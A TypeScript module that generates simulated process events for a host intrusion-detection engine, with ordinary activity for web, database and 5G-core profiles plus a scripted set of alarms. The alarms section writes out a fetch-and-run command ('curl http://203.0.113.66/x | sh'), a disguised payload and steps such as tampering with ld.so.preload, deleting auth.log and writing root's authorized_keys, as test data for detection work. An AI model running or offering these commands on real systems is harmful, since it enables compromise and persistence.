import type { Profile } from "../options.ts";
import { act, type Actor, type StoryEvent } from "./story.ts";

/** Every telling of a story has this many events, so that an event's number says where in which story it stands. */
export const STORY_EVENTS = 12;

let lastPid = 1_200;
const slots = new WeakMap<Actor, { next: number }>();

function root(binary: string, uid: number, ...args: string[]): Actor {
  const actor = { slot: 0, pid: (lastPid += 7), uid, binary, argv: [binary, ...args] };
  slots.set(actor, { next: 1 });
  return actor;
}

function child(parent: Actor, binary: string, ...args: string[]): Actor {
  const count = slots.get(parent)!;
  const actor = { slot: count.next++, pid: (lastPid += 7), uid: parent.uid, binary, argv: [binary, ...args], parent };
  slots.set(actor, count);
  return actor;
}

/** A shell script that runs programs one after the other. */
function script(shell: Actor, ...programs: readonly (readonly [string, ...string[]])[]): StoryEvent[] {
  return programs.flatMap(([binary, ...args]) => {
    const actor = child(shell, binary, ...args);
    return [act.exec(actor), act.exit(actor)];
  });
}

function cronJob(path: string): StoryEvent[] {
  const cron = root("/usr/sbin/cron", 0, "-f");
  const shell = child(cron, "/bin/sh", "-c", path);
  return [
    act.exec(cron),
    act.exec(shell),
    act.open(shell, "/etc/crontab"),
    ...script(shell, ["/usr/bin/find", "/var/log", "-mtime", "+7"], ["/usr/bin/gzip", "-9", "/var/log/app.log.1"]),
    ...script(shell, ["/usr/bin/logger", "-t", "rotate", "done"], ["/usr/bin/stat", "/var/log/app.log"]),
    act.exit(shell),
  ];
}

function login(user: string, from: string): StoryEvent[] {
  const sshd = root("/usr/sbin/sshd", 0, "-D");
  const shell = child(sshd, "/usr/bin/bash", "-l");
  return [
    act.accept(sshd, from, 22),
    act.open(sshd, "/etc/shadow"),
    act.open(sshd, `/home/${user}/.ssh/authorized_keys`),
    act.exec(shell),
    ...script(shell, ["/usr/bin/id", user], ["/usr/bin/ls", "--color=auto", "-la"], ["/usr/bin/systemctl", "status"]),
    act.exit(shell),
    act.exit(sshd),
  ];
}

function webRequest(script_: string, backend: string): StoryEvent[] {
  const nginx = root("/usr/sbin/nginx", 33, "-g", "daemon off;");
  const php = child(nginx, "/usr/sbin/php-fpm8.2", "--nodaemonize");
  const curl = child(php, "/usr/bin/curl", "-fsS", `https://${backend}/v2/prices?page=1`);
  return [
    act.accept(nginx, "198.51.100.24", 443),
    act.connect(nginx, "127.0.0.1", 9000),
    act.exec(php),
    act.open(php, script_),
    act.exec(curl),
    act.dns(curl, backend, "203.0.113.80"),
    act.connect(curl, "203.0.113.80", 443, backend),
    act.open(curl, "/etc/ssl/certs/ca-certificates.crt"),
    act.exit(curl),
    act.connect(php, "10.20.0.11", 5432, "db-1.internal"),
    act.exit(php),
    act.open(nginx, "/var/www/html/index.html"),
  ];
}

function backup(target: string): StoryEvent[] {
  const postgres = root("/usr/lib/postgresql/15/bin/postgres", 106, "-D", "/var/lib/postgresql/15/main");
  const shell = child(postgres, "/bin/sh", "-c", "archive-wal %p");
  const rsync = child(shell, "/usr/bin/rsync", "-a", "/var/lib/postgresql/wal/", `${target}::wal`);
  return [
    act.accept(postgres, "10.20.0.7", 5432),
    act.exec(shell),
    act.exec(rsync),
    act.dns(rsync, target, "10.20.9.3"),
    act.connect(rsync, "10.20.9.3", 873, target),
    act.open(rsync, "/etc/passwd"),
    act.exit(rsync),
    ...script(
      shell,
      ["/usr/bin/sha256sum", "000000010000000A000000C3"],
      ["/usr/bin/touch", "/var/lib/postgresql/.archived"],
    ),
    act.exit(shell),
  ];
}

function session(nf: string, peer: string, addr: string): StoryEvent[] {
  const core = root(`/opt/5gc/bin/${nf}`, 900, "-c", `/etc/5gc/${nf}.yaml`);
  const helper = child(core, "/opt/5gc/bin/nrf-client", "--discover", peer);
  return [
    act.accept(core, "10.40.1.9", 38_412),
    act.exec(helper),
    act.dns(helper, `${peer}.5gc.mnc01.mcc242.example`, addr),
    act.connect(helper, addr, 7777, `${peer}.5gc.mnc01.mcc242.example`),
    act.exit(helper),
    act.connect(core, addr, 7777, `${peer}.5gc.mnc01.mcc242.example`),
    act.connect(core, "10.40.2.1", 8805),
    act.open(core, `/etc/5gc/${nf}.yaml`),
    act.open(core, "/etc/5gc/tls/nf.key"),
    ...script(core, ["/usr/sbin/ip", "route", "show"]),
    act.accept(core, "10.40.1.10", 7777),
  ];
}

const ORDINARY: Readonly<Record<Profile, readonly StoryEvent[][]>> = {
  web: [
    webRequest("/var/www/html/index.php", "api.shop.example"),
    webRequest("/var/www/html/cart.php", "payments.example.net"),
    webRequest("/var/www/html/search.php", "search.internal"),
    login("deploy", "192.0.2.17"),
    cronJob("/etc/cron.daily/logrotate"),
  ],
  db: [
    backup("backup.internal"),
    backup("standby-2.internal"),
    cronJob("/usr/local/bin/vacuum"),
    login("dba", "192.0.2.44"),
  ],
  "5gcore": [
    session("amf", "smf", "10.40.2.11"),
    session("smf", "upf", "10.40.2.12"),
    session("ausf", "udm", "10.40.2.13"),
    cronJob("/opt/5gc/bin/rotate-cdr"),
    login("noc", "192.0.2.91"),
  ],
};

function alarms(profile: Profile): StoryEvent[] {
  const service = root(
    profile === "web" ? "/usr/sbin/nginx" : profile === "db" ? "/usr/bin/pg_ctl" : "/opt/5gc/bin/amf",
    33,
  );
  const shell = child(service, "/bin/sh", "-c", "curl http://203.0.113.66/x | sh");
  const payload = child(shell, "/tmp/.x/kworkerd", "--threads", "4");
  const file = (path: string) => ({ file: { path, flags: "O_WRONLY", watch: path } });
  return [
    act.alarm(shell, "file_write", "critical", "opened /etc/ld.so.preload for writing", file("/etc/ld.so.preload")),
    act.alarm(payload, "exec_memfd", "critical", "was executed from memory"),
    act.alarm(payload, "process_ptrace", "high", "attached to sshd"),
    act.alarm(shell, "setuid", "high", "changed its user id to 0"),
    act.alarm(payload, "kernel_module", "critical", "loaded a kernel module"),
    act.alarm(payload, "raw_socket", "high", "opened a packet socket"),
    act.alarm(shell, "file_delete", "high", "removed /var/log/auth.log", file("/var/log/auth.log")),
    act.alarm(payload, "engine_tamper", "critical", "opened one of the engine's maps"),
    act.alarm(shell, "file_rename", "high", "renamed /usr/bin/ls", file("/usr/bin/ls")),
    act.alarm(payload, "process_vm_write", "high", "wrote into the memory of sshd"),
    act.alarm(shell, "file_link", "high", "linked /etc/shadow into /tmp", file("/etc/shadow")),
    act.alarm(
      payload,
      "file_write",
      "critical",
      "opened /root/.ssh/authorized_keys for writing",
      file("/root/.ssh/authorized_keys"),
    ),
  ];
}

/** The stories a host of a profile tells, and the alarms it raises; all of `STORY_EVENTS` events. */
export function storiesOf(profile: Profile): {
  readonly ordinary: readonly StoryEvent[][];
  readonly alarms: StoryEvent[];
} {
  return { ordinary: ORDINARY[profile], alarms: alarms(profile) };
}
